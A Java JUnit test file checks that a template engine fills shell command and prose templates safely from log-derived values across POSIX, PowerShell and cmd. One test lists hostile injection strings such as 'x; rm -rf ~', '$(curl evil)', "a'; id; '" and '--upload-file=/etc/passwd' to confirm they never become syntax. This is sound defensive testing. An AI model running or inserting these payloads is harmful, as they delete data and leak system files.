package dev.faultline.advise;

import static dev.faultline.advise.Matches.captures;
import static dev.faultline.advise.Matches.match;
import static org.assertj.core.api.Assertions.assertThat;

import java.util.HashMap;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class TemplateTest {

  @ParameterizedTest
  @CsvSource(
      delimiter = '|',
      quoteCharacter = '`',
      value = {
        "Asked for ${requested}. | Asked for 2.00 GiB.",
        "Asked for ${requested}[[, ${absent} was free]]. | Asked for 2.00 GiB.",
        "Asked for ${requested}[[ of ${module}]]. | Asked for 2.00 GiB of flash_attn.",
        "[[${absent} is gone.]] Still here. | Still here.",
        "One [[${absent}]] two [[${absent}]]. | One two.",
        "It was ${absent}. | It was (unknown).",
        "It says ${sentence}. | It says not now.",
        "It says ${sentence}: no, ${sentence}; [[not ${sentence}]]. | It says not now: no, not now; not not now.",
        "Go to [[${absent}]]cd .. | Go to cd ..",
        "Half is ${half}, nothing is ${not a name} and ${. | Half is 1 GiB, nothing is ${not a name} and ${.",
        "a [[ b | a [[ b",
      })
  void prose(String template, String expected) {
    assertThat(Template.prose(template, bindings()).text()).isEqualTo(expected);
  }

  @ParameterizedTest
  @CsvSource(
      delimiter = '|',
      quoteCharacter = '`',
      value = {
        "pip install ${module} | pip install flash_attn",
        "pip install ${absent} | pip install <absent>",
        "export X=${HOME}:${x:-1} ${module} | export X=${HOME}:${x:-1} flash_attn",
        "rm ${path} | rm '/tmp/a b'",
        "rm \"${path}\" | rm \"/tmp/a b\"",
        "rm '${path}' | rm '/tmp/a b'",
        "echo it\\'s ${path} | echo it\\'s '/tmp/a b'",
        "[[ -f x ]] && run ${module} | [[ -f x ]] && run flash_attn",
        "run --mem ${half} | run --mem '1 GiB'",
        "run ${negative} | run -1",
      })
  void commands(String template, String expected) {
    assertThat(Template.command(template, Shell.POSIX, bindings()).text()).isEqualTo(expected);
  }

  /** What a hostile log could try to put into a command. */
  @ParameterizedTest
  @ValueSource(
      strings = {
        "x; rm -rf ~",
        "$(curl evil)",
        "`id`",
        "a && b",
        "a|b",
        "a>b",
        "a\nb",
        "a\rb",
        "\u001b[2Jx",
        "a'b",
        "a\"b",
        "a'; id; '",
        "a\"; id; \"",
        "%PATH%",
        "!x!",
        "^a",
        "a\\",
        "a\u2019; id; \u2019",
        "\u202eevil",
        "*",
        "#x",
        "${x}",
        "(a)",
        "-rf",
        "--upload-file=/etc/passwd",
        "a --exec=id",
      })
  void nothingFromALogIsSyntax(String hostile) {
    Bindings bindings = bindings("hostile", hostile);
    for (Shell shell : Shell.values()) {
      String bare = filled("run ${hostile}", shell, bindings);
      assertThat(bare)
          .as(shell + " bare")
          .satisfiesAnyOf(
              text -> assertThat(text).isEqualTo("run <hostile>"),
              text -> assertThat(text).isEqualTo("run " + ShellQuoting.literal(shell, hostile)));
      for (String quote : new String[] {"\"", "'"}) {
        String inside = filled("run " + quote + "${hostile}" + quote, shell, bindings);
        if (shell == Shell.CMD && quote.equals("'")) {
          // A single quote is no quote to cmd.
          assertThat(inside).matches("run '(<hostile>|\"[^\"%!\\p{Cntrl}]*\")'");
        } else {
          assertThat(inside).matches("run .(<hostile>|[A-Za-z()\\\\]+).");
        }
      }
    }
    assertThat(Template.command("model = \"${hostile}\"", null, bindings).text())
        .isIn("model = \"<hostile>\"", "model = \"" + hostile + "\"")
        .doesNotContain(";", "$(", "`", "\n");
  }

  @Test
  void windowsPathsStayInTheirQuotes() {
    Bindings bindings = bindings("python", "C:\\Program Files (x86)\\Python\\python.exe");

    assertThat(filled("& \"${python}\" -m pip", Shell.POWERSHELL, bindings))
        .isEqualTo("& \"C:\\Program Files (x86)\\Python\\python.exe\" -m pip");
    assertThat(filled("\"${python}\" -m pip", Shell.CMD, bindings))
        .isEqualTo("\"C:\\Program Files (x86)\\Python\\python.exe\" -m pip");
    assertThat(filled("${python} -m pip", Shell.CMD, bindings))
        .isEqualTo("\"C:\\Program Files (x86)\\Python\\python.exe\" -m pip");
    assertThat(filled("\"${python}\" -m pip", Shell.POSIX, bindings))
        .isEqualTo("\"<python>\" -m pip");
  }

  @Test
  void whatIsMissingIsNamed() {
    assertThat(Template.command("a ${absent} ${module} ${gone}", Shell.POSIX, bindings()).missing())
        .containsExactly("absent", "gone");
    assertThat(Template.prose("a ${absent}", bindings()).isComplete()).isFalse();
    assertThat(Template.prose("a [[${absent}]]", bindings()).isComplete()).isTrue();
  }

  private static String filled(String template, Shell shell, Bindings bindings) {
    return Template.command(template, shell, bindings).text();
  }

  private static Bindings bindings() {
    return bindings("path", "/tmp/a b");
  }

  private static Bindings bindings(String name, String text) {
    return new Bindings(
        match(
            new EntryDraft("t/x", "T").derive("half", "requested / 2").entry(),
            1,
            "x",
            captures(
                "SIZE",
                "requested",
                "2.00 GiB",
                "MODULE",
                "module",
                "flash_attn",
                "INT",
                "negative",
                "-1",
                "REST",
                "sentence",
                "not now.",
                "TEXT",
                name,
                text)),
        Facts.NONE,
        new HashMap<>());
  }
}
